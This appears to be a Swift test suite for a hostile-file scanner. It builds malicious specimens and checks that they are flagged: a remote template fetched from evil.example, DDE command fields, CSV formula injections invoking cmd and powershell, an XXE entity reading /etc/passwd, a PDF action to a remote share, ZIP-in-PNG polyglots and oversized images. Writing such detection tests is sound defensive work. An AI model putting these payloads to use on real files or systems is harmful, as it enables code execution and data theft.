import Foundation
import Inspection
import Testing

/// What a file hides from a reader that looks less closely than the program that opens it.
extension HostileFileTests {
    @Test("Comments, instructions and other spellings in a document's own lists hide nothing") func lists() {
        let evil = "https://evil.example/a.dotm"
        let link = "<Relationship Id=\"rId1\" Type=\"https://schemas.example/attachedTemplate\" Target=\"\(evil)\" TargetMode=\"External\"/>"
        func document(_ rels: String) -> [UInt8] { Specimen.docx([.init("word/_rels/settings.xml.rels", rels)]) }
        for hidden in [
            "<Relationships><!-- \" -->\(link)</Relationships>", "<Relationships><?a \" ?>\(link)</Relationships>",
            "<Relationships>\(link.replacing("External", with: "&#0000000069;xternal"))</Relationships>",
        ] { refuses(document(hidden), "a.docx", .externalTemplate(target: evil)) }
        for unclear in [
            "<Relationships><![CDATA[\"]]>\(link)</Relationships>", "<?xml version=\"1.0\" encoding = \"UTF-7\"?><Relationships/>",
            "<?xml version=\"1.0\" \(String(repeating: " ", count: 300)) encoding=\"UTF-7\"?><Relationships/>", "x<Relationships/>",
        ] { refuses(document(unclear), "a.docx", .damaged(.structure)) }
        for plain in [
            "<?xml version='1.0' encoding='utf-8' standalone=\"yes\"?><Relationships/>", " \n<Relationships><!-- a --></Relationships>", "",
        ] {
            #expect(findings(document(plain), "a.docx") == [], "\(plain)")
        }
    }

    @Test("A field that calls a program is seen in any part, in any writing; what is locked is not taken") func parts() {
        let field = "<w:instrText>ddeauto c:\\\\cmd</w:instrText>"
        refuses(Specimen.docx([.init("word/header1.dat", field)]), "a.docx", .dynamicExchange)
        let wide: [UInt8] = [0xFF, 0xFE] + "<w:p>\(field)</w:p>".utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }
        refuses(Specimen.docx([.init("word/header1.xml", wide)]), "a.docx", .damaged(.structure))
        #expect(findings(Specimen.docx([.init("customXml/item1.xml", wide)]), "a.docx") == [])
        let fetching = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
        refuses(Specimen.docx([.init("word/header2.xml", fetching)]), "a.docx", .damaged(.structure))
        #expect(findings(Specimen.docx([.init("word/media/image1.svg", "<!DOCTYPE svg><svg/>")]), "a.docx") == [])
        let locked = Specimen.openDocument("text", [.init("encrypted-package", [UInt8](repeating: 0x9A, count: 64))])
        #expect(findings(locked, "a.odt").map(\.innermost).contains(.encryptedOffice))
    }

    @Test("A separator in a quoted cell ends no formula") func cells() {
        for cell in ["\"=cmd|'/c powershell -c a;calc'!A1\"", "\"=cmd|'/c a,b'!A1\"", "\"a\"\"b\",\"=cmd|'/c a\"\";b'!A1\"", "a;=cmd|'/c calc'!A1"] {
            refuses(Specimen.bytes("氏名,額\n花子,\(cell)\n"), "a.csv", .dynamicExchange)
        }
        for cell in ["\"=SUM(A1;A2)\",|,!", "=1,a|b!", "\"=A1\";\"|\";\"!\"", "5\" 管|長さ!"] {
            #expect(findings(Specimen.bytes("氏名,額\n花子,\(cell)\n"), "a.csv") == [], "\(cell)")
        }
    }

    @Test("The word stream in a comment hides no action of a PDF") func comments() {
        let page = "3 0 obj<</Type/Page/AA<</O<</S/GoToE/F(\\\\\\\\evil\\\\s)/D[0/Fit]>>>>>>endobj\n"
        let file = "%PDF-1.7\n% stream\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        let found = findings(Specimen.bytes(file + page + "trailer<</Root 1 0 R>>\n%%EOF\n"), "a.pdf")
        #expect(found.contains { $0.refuses }, "\(found)")
    }

    @Test("An archive behind a picture is found by whichever record a program goes by") func archives() {
        let zip = ZipWriter.archive([.init("a.exe", Specimen.program)])
        // A byte between table and end record: who goes by the offset finds the table all the same.
        let picture = Specimen.png()
        let shifted = ZipWriter.archive([.init("a.exe", Specimen.program)], shift: picture.count)
        refuses(picture + shifted.dropLast(22) + [0] + shifted.suffix(22), "a.png", .polyglot(.zip))
        // The 64-bit records, behind which the old one says nothing.
        let (table, end) = (zip.count - 22, zip.suffix(22))
        let wide: [UInt8] = [0x50, 0x4B, 6, 6] + ZipWriter.long(44) + ZipWriter.long(0) + [UInt8](repeating: 0, count: 44)
        let locator: [UInt8] = [0x50, 0x4B, 6, 7] + ZipWriter.long(0) + ZipWriter.long(table) + ZipWriter.long(0) + ZipWriter.long(1)
        let empty: [UInt8] = Array(end.prefix(8)) + [UInt8](repeating: 0xFF, count: 12) + [0, 0]
        refuses(picture + zip.dropLast(22) + wide + locator + empty, "a.png", .polyglot(.zip))
    }

    @Test("A picture of any kind that would fill the memory of whoever opens it") func sizes() {
        func field(_ tag: Int, _ value: Int) -> [UInt8] { ZipWriter.short(tag) + ZipWriter.short(4) + ZipWriter.long(1) + ZipWriter.long(value) }
        func tiff(_ side: Int) -> [UInt8] {
            [0x49, 0x49, 42, 0] + ZipWriter.long(8) + ZipWriter.short(2) + field(256, side) + field(257, side) + ZipWriter.long(0)
        }
        refuses(tiff(0x7FFF_FFFF), "a.tiff", .tooManyPixels(width: 0x7FFF_FFFF, height: 0x7FFF_FFFF))
        #expect(findings(tiff(2_000), "a.tiff") == [])
    }

    @Test("Many faults under a long name take no longer than few", .timeLimit(.minutes(1))) func faults() {
        let frame: [UInt8] = [0xFF, 0xC0, 0, 4, 0xFF, 0xFF]
        let frames: [UInt8] = [0xFF, 0xD8] + Array([[UInt8]](repeating: frame, count: 1_000_000).joined())
        let name = String(repeating: "a", count: 60_000)
        let found = findings(ZipWriter.archive([.init("\(name).jpg", frames), .init("b.bin", frames.reversed(), packs: false)]), "a.zip")
        #expect(found.contains { $0.refuses })
        let rels = String(repeating: "<a TargetMode=\"External\"Type=\"\">", count: 30_000)
        refuses(
            Specimen.docx([.init("\(name).rels", rels), .init("c.rels", String(repeating: "<a Type=\"&#38;\">", count: 60_000))]), "a.docx",
            .externalTemplate(target: ""))
    }
}
